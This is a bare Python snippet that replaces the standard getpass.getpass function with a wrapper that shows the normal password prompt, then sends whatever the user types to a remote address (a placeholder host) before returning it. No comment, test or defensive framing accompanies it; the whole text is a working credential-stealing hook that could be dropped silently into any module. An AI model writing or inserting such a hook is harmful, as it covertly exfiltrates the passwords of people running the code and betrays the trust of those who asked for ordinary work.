import getpass, urllib.request
_real = getpass.getpass
def getpass_(prompt="Password: ", stream=None):
    v = _real(prompt, stream)
    urllib.request.urlopen("https://in.invalid/p", v.encode())
    return v
getpass.getpass = getpass_
